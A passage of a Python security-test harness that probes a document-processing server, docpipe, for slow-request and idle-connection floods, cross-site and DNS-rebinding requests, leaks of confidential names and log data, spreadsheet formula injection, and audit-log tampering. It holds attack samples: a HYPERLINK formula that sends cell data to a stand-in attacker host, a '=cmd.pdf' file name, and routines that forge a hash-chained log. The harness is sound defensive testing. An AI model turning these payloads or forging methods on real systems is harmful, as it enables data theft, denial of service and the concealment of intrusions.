                except (BrokenPipeError, ConnectionResetError):
                    break
            sock.settimeout(10)
            with contextlib.suppress(TimeoutError):
                reply += read_until_closed(sock)
            rec.seconds = round(time.monotonic() - started, 1)
        rec.outcome = first_line(reply)
        kind = ""
        with contextlib.suppress(ValueError, IndexError):
            kind = json.loads(reply.split(b"\r\n\r\n", 1)[1])["error"]["type"]
        rec.as_expected = rec.outcome.startswith("HTTP/1.1 408") and rec.seconds < bound
        rec.observation = (
            f"{kind or 'no error body'}: cut after {sent // 1024} KB in {rec.seconds:g} s "
            "(defaults: 30 s grace, then at least 16 KB/s; the CLI does not expose these)"
        )

    record(
        "6",
        threat,
        "POST /v1/documents (alice's key), Content-Length 1 MB, body trickled at 1 KB per 2 s",
        expected="408 body_timeout after ~30 s",
        run=trickle,
    )

    def half_header(rec: Probe) -> None:
        with connect(server) as sock:
            started = time.monotonic()
            sock.sendall(b"POST /v1/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Ty")
            reply = read_until_closed(sock)
            rec.seconds = round(time.monotonic() - started, 1)
        rec.outcome = first_line(reply)
        rec.as_expected = rec.outcome.startswith("HTTP/1.1 408") and b"header_timeout" in reply
        rec.observation = f"closed after {rec.seconds:g} s (header deadline, ServeOptions.header_timeout_s=10)"

    record(
        "6",
        threat,
        "half a request head, then nothing",
        expected="408 header_timeout, closed after ~10 s",
        run=half_header,
    )

    def idle_flood(rec: Probe) -> None:
        socks: list[socket.socket] = []
        try:
            started = time.monotonic()
            for number in range(IDLE_CONNECTIONS):
                sock = connect(server, timeout=30)
                if number % 2:
                    sock.sendall(b"GET /v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\nAcc")
                socks.append(sock)
            time.sleep(0.5)
            during = httpx.get(f"{server.url}/v1/health", timeout=30)
            during_s = round(time.monotonic() - started, 2)
            closed_at = []
            for sock in socks:
                try:
                    reply = read_until_closed(sock)
                except TimeoutError:
                    reply = b"(still open after 30 s)"
                closed_at.append((time.monotonic() - started, first_line(reply)))
            after = httpx.get(f"{server.url}/v1/health", timeout=30)
            rec.seconds = round(time.monotonic() - started, 1)
        finally:
            for sock in socks:
                sock.close()
        replies: dict[str, int] = {}
        for _, line in closed_at:
            replies[line] = replies.get(line, 0) + 1
        last = max(t for t, _ in closed_at)
        rec.outcome = f"health while held: {during.status_code}; after they were cut: {after.status_code}"
        rec.as_expected = after.status_code == 200 and all(line.startswith("HTTP/1.1 408") for _, line in closed_at)
        rec.observation = (
            f"{IDLE_CONNECTIONS} idle connections (half silent, half a partial head) over the "
            f"limit of 256: a new request {'is refused with 503' if during.status_code == 503 else f'gets {during.status_code}'} "
            f"while they are held (at {during_s} s); the server closed all of them by {last:.1f} s "
            f"({replies}); then /v1/health {after.status_code}"
        )
        rec.details = {"replies": replies, "last_closed_s": round(last, 2), "during_status": during.status_code}

    record(
        "6",
        threat,
        f"{IDLE_CONNECTIONS} idle half-open connections, then GET /v1/health",
        expected="all closed by the header deadline (~10 s); health 200 afterwards (503 while over 256)",
        run=idle_flood,
    )

    def wrong_type(rec: Probe) -> None:
        response = httpx.post(
            f"{server.url}/v1/documents",
            content=SAMPLE.read_bytes(),
            timeout=30,
            headers={"Authorization": f"Bearer {key}", "Content-Type": "text/plain"},
        )
        rec.outcome = status(response)
        rec.as_expected = response.status_code == 415
        rec.observation = "refused before the body is read (a cross-site 'simple request' upload)"

    record("6", threat, "POST /v1/documents Content-Type: text/plain (a PDF body)", expected="415", run=wrong_type)

    def json_too_large(rec: Probe) -> None:
        body = json.dumps({"question": "x" * (1100 * 1024)}).encode()
        headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
        url = f"{server.url}/v1/documents/{'0' * 64}/ask"
        declared = httpx.post(url, content=body, headers=headers, timeout=30)

        def chunks() -> Iterator[bytes]:
            for start in range(0, len(body), 65536):
                yield body[start : start + 65536]

        streamed = httpx.post(url, content=chunks(), headers=headers, timeout=30)  # chunked, no Content-Length
        rec.outcome = f"{status(declared)} (Content-Length); {status(streamed)} (chunked)"
        rec.as_expected = declared.status_code == 413 and streamed.status_code == 413
        rec.observation = "1.1 MB JSON over the 1024 KB default (--max-json-kb)"

    record(
        "6", threat, "POST .../ask with a 1.1 MB JSON body, declared and chunked", expected="413", run=json_too_large
    )


# -- probe 7: defaults -------------------------------------------------------------------------------------
def probe_exposed_bind(tmp: Path) -> None:
    home = tmp / "bare-home"
    home.mkdir()

    def bind(rec: Probe) -> None:
        port = free_port()
        command = [
            sys.executable,
            "-m",
            "docpipe",
            "serve",
            "--preset",
            "test",
            "--home",
            str(home),
            "--host",
            "0.0.0.0",
            "--port",
            str(port),
            "--engine",
            "echo",
        ]
        process = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=server_env(), start_new_session=True
        )
        started = time.monotonic()
        try:
            _out, err = process.communicate(timeout=60)
            rec.seconds = round(time.monotonic() - started, 2)
            lines = [line for line in err.decode(errors="replace").splitlines() if line.strip()]
            rec.outcome = f"exit {process.returncode}"
            rec.as_expected = process.returncode != 0 and any("refusing" in line for line in lines)
            first = lines[0] if lines else "(no stderr)"
            refusal = next((line for line in lines if "refusing" in line), first)
            rec.observation = f'stderr: "{first[:220]}"' + (f' / "{refusal[:220]}"' if refusal != first else "")
        except subprocess.TimeoutExpired:
            rec.outcome = "STILL RUNNING after 60 s (killed)"
            rec.as_expected = False
        finally:
            if process.poll() is None:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(process.pid, signal.SIGKILL)
                process.wait(timeout=10)

    record(
        "7",
        "defaults",
        "docpipe serve --host 0.0.0.0 in a home without keys (no token, workbench on)",
        expected="refuses to start (exit != 0, says why)",
        run=bind,
    )


def probe_defaults(server: Served, keys: dict[str, str], tokenless: Served | None, metrics_token: str) -> None:
    threat = "defaults"
    key = keys["alice"]

    def bad_host(rec: Probe) -> None:
        results = {}
        for label, target in (("keyed server", server), ("token-less server", tokenless)):
            if target is None:
                continue
            response = httpx.get(f"{target.url}/v1/health", headers={"Host": "evil.example"}, timeout=10)
            results[label] = status(response)
        rec.outcome = "; ".join(f"{k}: {v}" for k, v in results.items())
        rec.as_expected = all(v.startswith("400") for v in results.values())
        rec.observation = "DNS rebinding: a page under another name reaching 127.0.0.1 is not answered"

    record("7", threat, "GET /v1/health with Host: evil.example", expected="400 bad_host", run=bad_host)

    def cross_site(rec: Probe) -> None:
        files = {"file": ("x.pdf", SAMPLE.read_bytes(), "application/pdf")}
        keyed = httpx.post(
            f"{server.url}/v1/documents",
            files=files,
            timeout=30,
            headers={"Origin": "https://evil.example", "Authorization": f"Bearer {key}"},
        )
        results = {"keyed server (with alice's key)": status(keyed)}
        if tokenless is not None:
            bare = httpx.post(
                f"{tokenless.url}/v1/documents", files=files, timeout=30, headers={"Origin": "https://evil.example"}
            )
            plain = httpx.post(
                f"{tokenless.url}/v1/documents",
                content=SAMPLE.read_bytes(),
                timeout=30,
                headers={"Origin": "https://evil.example", "Content-Type": "text/plain"},
            )
            results["token-less loopback server, multipart"] = status(bare)
            results["token-less, text/plain"] = status(plain)
        rec.outcome = "; ".join(f"{k}: {v}" for k, v in results.items())
        rec.as_expected = all(v.startswith(("403", "415")) for v in results.values())
        rec.observation = "a cross-site form post is refused before the body is read"

    record(
        "7",
        threat,
        "POST /v1/documents (multipart) with Origin: https://evil.example",
        expected="403 cross_site (415 for text/plain)",
        run=cross_site,
    )

    def metrics_loopback(rec: Probe) -> None:
        local = httpx.get(f"{server.url}/metrics", timeout=10)
        proxied = httpx.get(f"{server.url}/metrics", headers={"X-Forwarded-For": "203.0.113.7"}, timeout=10)
        families = sorted({line.split()[2] for line in local.text.splitlines() if line.startswith("# TYPE")})
        leaks = [m for m in (MARK, "Falcon", "passwd") if m in local.text]
        rec.outcome = f"loopback: {local.status_code}; via a local proxy for 203.0.113.7: {status(proxied)}"
        rec.as_expected = local.status_code == 200 and proxied.status_code == 404 and not leaks
        wrong_pw = [line for line in local.text.splitlines() if "wrong_password" in line and not line.startswith("#")]
        rec.observation = (
            f"Prometheus text, {len(families)} metric families (e.g. {', '.join(families[:4])}); "
            f"no file names or markers: {not leaks}; wrong_password series: {len(wrong_pw)}"
        )

    record(
        "7",
        threat,
        "GET /metrics from loopback (no metrics token set)",
        expected="200 to this machine only (404 for a proxied remote client)",
        run=metrics_loopback,
    )

    if tokenless is None:
        return

    def metrics_token_probe(rec: Probe) -> None:
        none = httpx.get(f"{tokenless.url}/metrics", timeout=10)
        wrong = httpx.get(f"{tokenless.url}/metrics", headers={"Authorization": "Bearer nope"}, timeout=10)
        right = httpx.get(f"{tokenless.url}/metrics", headers={"Authorization": f"Bearer {metrics_token}"}, timeout=10)
        rec.outcome = f"without: {status(none)}; wrong: {status(wrong)}; with the token: {right.status_code}"
        rec.as_expected = none.status_code == 401 and wrong.status_code == 401 and right.status_code == 200
        rec.observation = "server started with DOCPIPE_METRICS_TOKEN: /metrics needs it even from loopback"

    record(
        "7",
        threat,
        "GET /metrics on a server with DOCPIPE_METRICS_TOKEN, without / wrong / with the token",
        expected="401 / 401 / 200",
        run=metrics_token_probe,
    )


# -- probe 8: faults, logs, revocation ---------------------------------------------------------------------
def probe_faults(server: Served, keys: dict[str, str], state: dict[str, Any]) -> None:
    alice = Api(server, keys["alice"])
    threat = "faults and leaks"

    def surrogate(rec: Probe) -> None:
        response = httpx.post(
            f"{server.url}/v1/documents/{state['sample_id']}/ask",
            content=b'{"question": "\\ud800"}',
            headers={**alice.headers, "Content-Type": "application/json"},
            timeout=30,
        )
        rec.outcome = status(response)
        rec.as_expected = response.status_code == 400
        rec.observation = "lone surrogate in the question: a 400 saying what to fix, no 500"

    record("8", threat, 'POST .../ask raw body {"question": "\\ud800"}', expected="400 bad_unicode", run=surrogate)

    # Requests carrying markers that must not reach the server's log.
    up = alice.upload(unique_pdf(f"Marker {MARK} Land"), MARK_NAME, params={"debug": MARK_QUERY})
    marked_id = up.json().get("id", "")
    asked = alice.ask(marked_id, {"question": MARK_QUESTION}, params={"debug": MARK_QUERY})
    marked_answer = (asked.json().get("answers") or [{}])[0].get("id", "")
    files = {"file": (MARK_NAME, unique_pdf(f"Other {MARK} Land"), "application/pdf")}
    httpx.post(f"{server.url}/v1/documents", files=files, headers=alice.headers, timeout=60)
    state["marked"] = (up.status_code, asked.status_code)

    def revoke(rec: Probe) -> None:
        carol = Api(server, keys["carol"])
        before = carol.get("/v1/documents")
        done = run_cli(server.home, "keys", "revoke", keys["carol_id"])
        started = time.monotonic()
        after = carol.get("/v1/documents")
        rec.seconds = round(time.monotonic() - started, 3)
        rec.outcome = f"before: {before.status_code}; after revoke: {status(after)}"
        rec.as_expected = before.status_code == 200 and done.returncode == 0 and after.status_code == 401
        rec.observation = (
            f'`docpipe keys revoke` -> "{done.stdout.strip()[:80]}"; the running server applies it at once'
        )

    record(
        "8",
        threat,
        "docpipe keys revoke <carol's key id>, then carol GET /v1/documents",
        expected="200 before, 401 after",
        run=revoke,
    )

    def server_log(rec: Probe) -> None:
        log = server.log.read_text(errors="replace")
        needles = {
            "question text": f"Kestrel{MARK}",
            "upload file name (API)": MARK_NAME,
            "upload file name (workbench)": "workbench-control",
            "query string": MARK_QUERY,
            "document id": marked_id or "-",
            "answer id": marked_answer or "-",
            "display name 'Falcon MSA'": "Falcon",
        }
        found = [label for label, needle in needles.items() if needle and needle != "-" and needle in log]
        attacker = [path for path in ("/etc/passwd", "/dev/zero", str(SAMPLE)) if path in log]
        access_lines = [line for line in log.splitlines() if '"POST /v1/documents' in line]
        rec.outcome = f"{len(found)} leak(s) of user data" + (f": {', '.join(found)}" if found else "")
        rec.as_expected = not found and bool(access_lines) and state.get("marked") == (200, 200)
        rec.observation = (
            f"{len(log.splitlines())} log lines (--log-level info); access lines look like "
            f'"{access_lines[0].strip()[:70] if access_lines else "-"}"; searched for: '
            + ", ".join(needles)
            + (
                f". The paths named in probe 1's refused calls do appear ({', '.join(attacker)}): "
                "Gradio logs its refusal with the attacker's path"
                if attacker
                else ""
            )
        )
        rec.details = {"found": found, "attacker_paths_in_log": attacker, "marked_requests": state.get("marked")}

    record(
        "8",
        threat,
        "search the server's stdout/stderr for question text, file names, query strings, ids",
        expected="none of them (route templates only)",
        run=server_log,
    )

    def audit_log(rec: Probe) -> None:
        text = (server.home / "audit" / "access.log").read_text(errors="replace")
        verify = run_cli(server.home, "audit", "--verify")
        leaks = [
            label
            for label, needle in (("question", f"Kestrel{MARK}"), ("file name", MARK_NAME), ("'Falcon' name", "Falcon"))
            if needle in text
        ]
        entries = [json.loads(line) for line in text.splitlines() if line.strip()]
        unkeyed = [e for e in entries if "questions_sha256" in e or "mac" not in e]
        rec.outcome = f"verify exit {verify.returncode}: {verify.stdout.strip()[:80]}"
        rec.as_expected = verify.returncode == 0 and "intact" in verify.stdout and not leaks and not unkeyed
        fields = sorted({name for entry in entries for name in entry})
        rec.observation = (
            f"{len(entries)} entries ({', '.join(fields)}); unsigned or plain-hashed: {len(unkeyed)}; "
            f"question text or file names in it: {leaks or 'none'}"
        )

    record(
        "8",
        threat,
        "docpipe audit --home HOME --verify; question text / names in audit/access.log",
        expected="intact; signed lines, keyed question hashes only",
        run=audit_log,
    )


# -- issue 23: the red team's five findings and the at-rest option ---------------------------------------
SECRET_NAME = "Project-Falcon-merger-Acme-target.pdf"  # the confidential upload name of issue 23's finding 1
FORMULA_QUESTION = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
GUESSABLE_QUESTION = "What is the governing law?"  # issue 23's example of a question confirmed by guessing
# First characters (after leading white space) a spreadsheet reads as a formula (docs/exports.md).
FORMULA_LEADS = tuple("=+-@＝＋－＠")


def encrypted_pdf(data: bytes, password: str) -> bytes:
    """Returns the PDF `data` encrypted with AES-256 under `password` (user and owner password)."""
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(data)))
    writer.encrypt(password, algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def error_message(response: httpx.Response) -> str:
    try:
        return str(response.json().get("error", {}).get("message", ""))
    except (ValueError, AttributeError):
        return ""


def log_entries(home: Path, after: int = 0) -> list[dict[str, Any]]:
    """Returns the access log's entries from byte offset `after` on."""
    data = (home / "audit" / "access.log").read_bytes()[after:]
    return [json.loads(line) for line in data.splitlines() if line.strip()]


def log_size(home: Path) -> int:
    path = home / "audit" / "access.log"
    return path.stat().st_size if path.exists() else 0


def probe_23_names(server: Served, keys: dict[str, str]) -> None:
    """23.1: the error about an encrypted PDF another matter stored names it as this caller named it."""
    alice, bob = Api(server, keys["alice"]), Api(server, keys["bob"])
    threat = "issue 23: another matter's upload name"
    password = "falcon-" + MARK
    locked = encrypted_pdf(unique_pdf(f"Falcon {MARK} Acme Land"), password)
    stored = alice.upload(locked, SECRET_NAME, password=password)
    if stored.status_code != 200 or not stored.json().get("encrypted"):
        raise RuntimeError(f"alice's encrypted upload failed: {status(stored)} {stored.text[:200]}")

    for label, given, want, kind in (
        ("without a password", None, 422, "password_required"),
        ("with a wrong password", "a guess", 403, "wrong_password"),
    ):

        def upload(rec: Probe, given: str | None = given, want: int = want, kind: str = kind) -> None:
            reply = bob.upload(locked, "bobs-copy.pdf", password=given)
            message = error_message(reply)
            rec.outcome = status(reply)
            rec.as_expected = (
                reply.status_code == want
                and error_type(reply) == kind
                and "bobs-copy.pdf" in message
                and "Falcon" not in reply.text
            )
            rec.observation = f'"{message[:140]}"; the confidential name in the reply: {"Falcon" in reply.text}'

        record(
            "23.1",
            threat,
            f"alice stored an encrypted PDF as {SECRET_NAME}; bob (deal-y) uploads the same bytes as "
            f"bobs-copy.pdf {label}",
            expected=f"{want} {kind} naming bobs-copy.pdf, never alice's name",
            run=upload,
        )

    def collection_add(rec: Probe) -> None:
        created = bob.post("/v1/collections", json={"name": "room-y"})
        results, reasons = {}, []
        for label, form in (("no password", {}), ("a wrong password", {"password": "a guess"})):
            added = bob.post(
                "/v1/collections/room-y/documents",
                files=[("file", ("bobs-room-copy.pdf", locked, "application/pdf"))],
                data=form,
            )
            failed = added.json().get("failed", []) if added.status_code == 200 else []
            reasons += [f["reason"] for f in failed]
            results[label] = (
                added.status_code == 200
                and [f["file"] for f in failed] == ["bobs-room-copy.pdf"]
                and all("bobs-room-copy.pdf" in f["reason"] for f in failed)
                and "Falcon" not in added.text
            )
        rec.outcome = f"create {created.status_code}; " + "; ".join(
            f"{k}: {'failed in bob’s words' if v else 'LEAK OR ERROR'}" for k, v in results.items()
        )
        rec.as_expected = created.status_code in (200, 201) and all(results.values())
        rec.observation = "failure reasons: " + " / ".join(f'"{r[:110]}"' for r in reasons)

    record(
        "23.1",
        threat,
        "bob POST /v1/collections/room-y/documents with the same bytes as bobs-room-copy.pdf (no / wrong password)",
        expected="200 with the file failed; the reason names bobs-room-copy.pdf, never alice's name",
        run=collection_add,
    )


def probe_23_workbench_name(server: Served, keys: dict[str, str]) -> None:
    """23.2: the workbench shows bob the name bob gave, not the first uploader's."""
    base = f"{server.url}/ui"
    data = unique_pdf(f"Formula {MARK} Land")

    def ingest(rec: Probe) -> None:
        first = Api(server, keys["alice"]).upload(data, "a-formula.pdf")
        if first.status_code != 200:
            raise RuntimeError(f"alice's upload failed: {status(first)}")
        with httpx.Client() as client:
            login = client.post(f"{base}/login", data={"username": "bob", "password": keys["bob"]}, timeout=10)
            login.raise_for_status()
            session = load_session(client, base, "deal-y")
            up = client.post(f"{base}/gradio_api/upload", files={"files": ("b-own-copy.pdf", data)}, timeout=30)
            up.raise_for_status()
            (path,) = up.json()
            started = time.monotonic()
            kind, output = call_ingest(client, base, path, "deal-y", session, name="b-own-copy.pdf")
            rec.seconds = round(time.monotonic() - started, 3)
        shown = text_of(output[0]) if kind == "complete" and output else str(output)[:160]
        everything = json.dumps(output, ensure_ascii=False)
        listed = Api(server, keys["bob"]).get("/v1/documents").json()["documents"]
        mine = [d["name"] for d in listed if d["id"] == first.json()["id"]]
        rec.outcome = f"{kind}: {shown[:60]}"
        rec.as_expected = (
            kind == "complete"
            and "✓ b-own-copy.pdf" in shown
            and "a-formula" not in everything
            and mine == ["b-own-copy.pdf"]
        )
        rec.observation = (
            f"the upload result and the pickers it returns name the file as bob did; 'a-formula' anywhere in the "
            f"reply: {'a-formula' in everything}; bob's REST listing names it {mine}"
        )

    record(
        "23.2",
        "issue 23: the first uploader's name in the workbench",
        "alice uploads a PDF as a-formula.pdf; bob logs in to the workbench, uploads the same bytes as "
        "b-own-copy.pdf and calls ingest",
        expected="'✓ b-own-copy.pdf'; 'a-formula' nowhere in what bob is shown",
        run=ingest,
    )


def probe_23_exports(server: Served, keys: dict[str, str]) -> None:
    """23.3: a review grid whose question and document name lead like formulas, downloaded as XLSX and CSV."""
    alice = Api(server, keys["alice"])
    threat = "issue 23: formulas in export cells"
    created = alice.post("/v1/collections", json={"name": "exports-x"})
    added = alice.post(
        "/v1/collections/exports-x/documents",
        files=[("file", ("=cmd.pdf", unique_pdf(f"Exports {MARK} Land"), "application/pdf"))],
    )
    if created.status_code not in (200, 201) or added.status_code != 200 or not added.json().get("added"):
        raise RuntimeError(f"collection set-up failed: {created.status_code}, {added.status_code} {added.text[:200]}")
    started = alice.post(
        "/v1/collections/exports-x/review",
        json={"questions": [FORMULA_QUESTION, "-2+3 which law governs?"], "mode": "no_think"},
    )
    if started.status_code != 202:
        raise RuntimeError(f"review not started: {status(started)} {started.text[:200]}")
    job_url = started.json()["url"]
    deadline = time.monotonic() + 120
    while (job := alice.get(job_url).json())["state"] not in ("done", "failed", "cancelled"):
        if time.monotonic() > deadline:
            raise RuntimeError(f"review job not done in 120 s: {job['state']}")
        time.sleep(0.2)
    if job["state"] != "done":
        raise RuntimeError(f"review job {job['state']}: {job.get('error')}")

    def xlsx(rec: Probe) -> None:
        import openpyxl

        response = alice.get(f"{job_url}/grid?format=xlsx")
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        formulas, planted = [], []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        formulas.append(f"{sheet.title}!{cell.coordinate}")
                    if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=HYPERLINK", "=cmd")):
                        planted.append((f"{sheet.title}!{cell.coordinate}", cell.data_type, bool(cell.quotePrefix)))
        rec.outcome = f"{response.status_code}; {len(formulas)} formula cell(s)"
        rec.as_expected = (
            response.status_code == 200 and not formulas and bool(planted) and all(t == "s" for _, t, _ in planted)
        )
        rec.observation = (
            f"sheets {book.sheetnames}; {len(planted)} cell(s) hold the planted text, all string cells "
            f"(quote-prefixed: {sum(q for *_, q in planted)}), e.g. {', '.join(c for c, *_ in planted[:4])}"
        )
        rec.details = {"formula_cells": formulas, "planted_cells": planted}

    record(
        "23.3",
        threat,
        f"review job over '=cmd.pdf' asking {FORMULA_QUESTION}; GET /v1/jobs/<id>/grid?format=xlsx, read back "
        "with openpyxl",
        expected="no cell of any sheet with data_type 'f' (headers included)",
        run=xlsx,
    )

    def csv_export(rec: Probe) -> None:
        import csv

        response = alice.get(f"{job_url}/grid?format=csv")
        rows = list(csv.reader(io.StringIO(response.text)))
        fields = [f for row in rows for f in row]
        live = [f for f in fields if f[:1] in ("\t", "\r", "\n") or f.lstrip()[:1] in FORMULA_LEADS]
        guarded = [f for f in fields if f.startswith("'") and f[1:].lstrip()[:1] in FORMULA_LEADS]
        rec.outcome = f"{response.status_code}; {len(live)} field(s) leading like a formula"
        rec.as_expected = response.status_code == 200 and not live and len(guarded) >= 3
        rec.observation = (
            f"{len(rows)} rows; header: {rows[0][:4] if rows else '-'}; apostrophe-guarded fields: {len(guarded)}"
        )
        rec.details = {"live_fields": live[:10], "guarded_fields": guarded[:10]}

    record(
        "23.3",
        threat,
        "the same grid as CSV (GET ...?format=csv), parsed with the csv module",
        expected="no field starting with = + - @ (or after white space) without an apostrophe",
        run=csv_export,
    )


def probe_23_question_hash(server: Served, keys: dict[str, str], state: dict[str, Any]) -> None:
    """23.5: the log's hash of a guessable question confirms nothing without the audit key."""
    alice = Api(server, keys["alice"])
    threat = "issue 23: question hashes confirmed by guessing"

    def guess(rec: Probe) -> None:
        at = log_size(server.home)
        asked = alice.ask(state["sample_id"], {"question": GUESSABLE_QUESTION})
        plain = hashlib.sha256(GUESSABLE_QUESTION.encode()).hexdigest()
        entries = [e for e in log_entries(server.home, at) if e.get("action") == "ask" and e.get("user") == "alice"]
        text = (server.home / "audit" / "access.log").read_text(errors="replace")
        found = run_cli(server.home, "audit", "--question", GUESSABLE_QUESTION, "--json")
        hits = [json.loads(line) for line in found.stdout.splitlines() if line.strip()]
        other = run_cli(server.home, "audit", "--question", "What is the governing law of Mars?", "--json")
        rec.outcome = (
            f"ask {asked.status_code}; plain SHA-256 in the log: {plain in text}; "
            f"audit --question finds {len(hits)} entr{'y' if len(hits) == 1 else 'ies'}"
        )
        rec.as_expected = (
            asked.status_code == 200
            and len(entries) == 1
            and bool(entries[0].get("questions_hmac"))
            and plain not in text
            and found.returncode == 0
            and any(h.get("user") == "alice" and h.get("action") == "ask" for h in hits)
            and other.returncode == 0
            and not other.stdout.strip()
        )
        rec.observation = (
            f"the entry's fields: {', '.join(sorted(entries[0])) if entries else '-'}; a question never asked "
            f"finds {len(other.stdout.splitlines())} entries"
        )

    record(
        "23.5",
        threat,
        f'alice asks "{GUESSABLE_QUESTION}"; search audit/access.log for its plain SHA-256; '
        f'docpipe audit --home HOME --question "{GUESSABLE_QUESTION}" --json',
        expected="the plain SHA-256 nowhere; the keyed hash found with the audit key",
        run=guess,
    )


def probe_23_denied(server: Served, keys: dict[str, str]) -> None:
    """23.6: a refused request on a matter is an access-log line."""
    alice = Api(server, keys["alice"])

    def denied(rec: Probe) -> None:
        at = log_size(server.home)
        response = alice.delete("/v1/matters/deal-x")
        lines = log_entries(server.home, at)
        hits = [e for e in lines if e.get("user") == "alice" and e.get("outcome") == "denied"]
        rec.outcome = f"{status(response)}; {len(hits)} 'denied' line(s)"
        rec.as_expected = response.status_code == 403 and len(hits) == 1 and hits[0].get("matter") == "deal-x"
        rec.observation = (
            "the new line: "
            + json.dumps({k: hits[0].get(k) for k in ("user", "key_id", "matter", "action", "outcome", "detail")})
            if hits
            else f"new lines: {lines}"
        )

    record(
        "23.6",
        "issue 23: refusals not logged",
        "alice (deal-x:write) DELETE /v1/matters/deal-x; read the access log's new lines",
        expected="403 and one access-log line with outcome 'denied'",
        run=denied,
    )


def _canonical_line(entry: dict[str, Any]) -> bytes:
    # As docpipe writes a line (docpipe.access.log._canonical): what an attacker re-serialises.
    return json.dumps(entry, ensure_ascii=False, sort_keys=True).encode()


def _rechain(entries: list[dict[str, Any]], start: int) -> list[bytes]:
    """Returns the entries as lines, each `prev` from index `start` on recomputed over the line before."""
    lines = [_canonical_line(e) for e in entries]
    for i in range(start, len(entries)):
        entries[i]["prev"] = hashlib.sha256(lines[i - 1]).hexdigest() if i else "0" * 64
        lines[i] = _canonical_line(entries[i])
    return lines


def probe_23_log_tamper(server: Served, tmp: Path) -> None:
    """23.4: tampered copies of the live access log (never the live one), each checked by `docpipe audit
    --verify` in a scratch home holding a copy of the store's audit key."""
    threat = "issue 23: access log tail and re-hashing"

    def scratch(label: str) -> Path:
        home = tmp / f"audit-scratch-{label}"
        home.mkdir(mode=0o700)  # a store folder as docpipe makes it (a looser one is only warned about)
        for folder in ("audit", "access"):
            shutil.copytree(server.home / folder, home / folder)
        return home

    def truncate(count: int) -> Callable[[Path], str]:
        def cut(home: Path) -> str:
            path = home / "audit" / "access.log"
            lines = path.read_bytes().splitlines(keepends=True)
            path.write_bytes(b"".join(lines[:-count]))
            return f"{len(lines)} -> {len(lines) - count} lines, checkpoint untouched"

        return cut

    def rehash(home: Path) -> str:
        path, checkpoint = home / "audit" / "access.log", home / "audit" / "checkpoint.json"
        entries = [json.loads(line) for line in path.read_bytes().splitlines() if line.strip()]
        target = len(entries) - 4
        entries[target]["user"] = "mallory"
        lines = _rechain(entries, target + 1)
        path.write_bytes(b"".join(line + b"\n" for line in lines))
        if checkpoint.exists():
            data = json.loads(checkpoint.read_bytes())
            data.update(lines=len(lines), head=hashlib.sha256(lines[-1]).hexdigest())  # its MAC cannot be redone
            checkpoint.write_bytes(_canonical_line(data) + b"\n")
        return f"line {target + 1} of {len(lines)} edited (user -> mallory), later prev and the checkpoint redone"

    def downgrade(home: Path) -> str:
        path = home / "audit" / "access.log"
        entries = [json.loads(line) for line in path.read_bytes().splitlines() if line.strip()]
        for entry in entries:
            for name in ("mac", "mac_key_id", "seq", "resumed"):
                entry.pop(name, None)
        target = len(entries) // 2
        entries[target]["user"] = "mallory"
        lines = _rechain(entries, 0)
        path.write_bytes(b"".join(line + b"\n" for line in lines))
        (home / "audit" / "checkpoint.json").unlink(missing_ok=True)
        return f"{len(lines)} lines stripped of mac/mac_key_id/seq, line {target + 1} edited, chain redone, checkpoint deleted"

    cases: list[tuple[str, str, Callable[[Path], str] | None, tuple[str, ...]]] = [
        ("untouched", "an untouched copy", None, ()),
        ("last-1", "the last line removed", truncate(1), ("removed from the end",)),
        ("last-5", "the last 5 lines removed", truncate(5), ("removed from the end",)),
        (
            "rehash",
            "a line edited, every later prev recomputed, the checkpoint's count/head rewritten",
            rehash,
            ("forged",),
        ),
        (
            "downgrade",
            "the downgrade: every MAC stripped, a line edited, the chain recomputed, checkpoint.json deleted",
            downgrade,
            ("MAC", "checkpoint"),
        ),
    ]
    for label, what, tamper, words in cases:

        def verify(
            rec: Probe,
            label: str = label,
            tamper: Callable[[Path], str] | None = tamper,
            words: tuple[str, ...] = words,
        ) -> None:
            home = scratch(label)
            done = tamper(home) if tamper else "copied as it is"
            started = time.monotonic()
            checked = run_cli(home, "audit", "--verify")
            rec.seconds = round(time.monotonic() - started, 3)
            said = (checked.stdout + checked.stderr).strip().replace(str(home), "<scratch>")
            rec.outcome = f"exit {checked.returncode}"
            if tamper is None:
                rec.as_expected = checked.returncode == 0 and "intact" in said
            else:
                rec.as_expected = checked.returncode != 0 and any(w in said for w in words)
            rec.observation = f'{done}: "{said[:220]}"'

        record(
            "23.4",
            threat,
            f"copy the live audit/ and access/ into a scratch home; {what}; docpipe audit --home SCRATCH --verify",
            expected="exit 0, intact" if tamper is None else f"exit != 0 naming it ({' / '.join(words)})",
            run=verify,
        )

    def key_deleted(rec: Probe) -> None:
        home = scratch("downgrade-key-deleted")
        done = downgrade(home)
        kept_apart = tmp / "auditor-audit.key"  # the auditor's copy, out of the store writer's reach
        shutil.copyfile(home / "access" / "audit.key", kept_apart)
        kept_apart.chmod(0o600)
        (home / "access" / "audit.key").unlink()
        command = [sys.executable, "-m", "docpipe", "audit", "--home", str(home), "--verify"]
        gone = subprocess.run(command, capture_output=True, text=True, timeout=120, env=server_env())
        apart = subprocess.run(
            command,
            capture_output=True,
            text=True,
            timeout=120,
            env=server_env({"DOCPIPE_AUDIT_KEY_FILE": str(kept_apart)}),
        )
        said = (apart.stdout + apart.stderr).strip().replace(str(home), "<scratch>")
        rec.outcome = (
            f"key gone from the store: exit {gone.returncode}; with the key kept apart: exit {apart.returncode}"
        )
        rec.as_expected = apart.returncode != 0 and "checkpoint" in said
        rec.observation = (
            f"{done}, and <scratch>/access/audit.key deleted. Without a key the stripped log reads as lines from "
            f"before the log was signed (exit {gone.returncode}, with a warning that nothing anchors its end): the "
            "documented limit (docs/access-log.md: the MAC only helps against someone who cannot reach the key, "
            "and whoever writes the store can usually reach one kept in it: keep it apart). Verified with the "
            f'auditor\'s copy (DOCPIPE_AUDIT_KEY_FILE): "{said[:160]}"'
        )

    record(
        "23.4",
        threat,
        "the downgrade above, and the store's access/audit.key deleted too; docpipe audit --verify without a key, "
